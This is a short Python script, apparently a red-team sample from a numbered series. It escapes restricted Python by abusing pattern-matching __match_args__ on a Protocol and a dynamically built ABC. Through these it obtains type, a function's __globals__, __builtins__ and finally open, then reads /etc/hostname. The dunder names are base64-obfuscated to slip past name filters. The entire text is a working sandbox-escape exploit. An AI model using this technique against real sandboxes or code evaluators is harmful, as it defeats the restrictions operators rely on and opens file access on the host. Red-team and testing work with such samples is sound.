# family: red team, round 42 (runtime_checkable Protocol's __match_args__ reads a method off a class subject; then type, globals, open)
from typing import Protocol, runtime_checkable
from abc import ABC
import base64


@runtime_checkable
class Probe(Protocol):
    __match_args__ = ("kind",)

    def kind(self):
        ...


class Shape:
    __match_args__ = ("kind",)

    def kind(self):
        return type(self)


def decode(text):
    return base64.b64decode(text).decode()


def main():
    subject = Shape
    match subject:
        case Probe(getter):
            meta = getter(int)
    print(meta)
    reader = meta("Reader", (ABC,), {decode("X19tYXRjaF9hcmdzX18="): (decode("X19nbG9iYWxzX18="),)})
    reader.register(meta(decode))
    match decode:
        case reader(scope):
            pass
    print(sorted(scope)[:6])
    match scope[decode("X19idWlsdGluc19f")]:
        case object(open=opener):
            print(opener("/etc/hostname").read())


main()
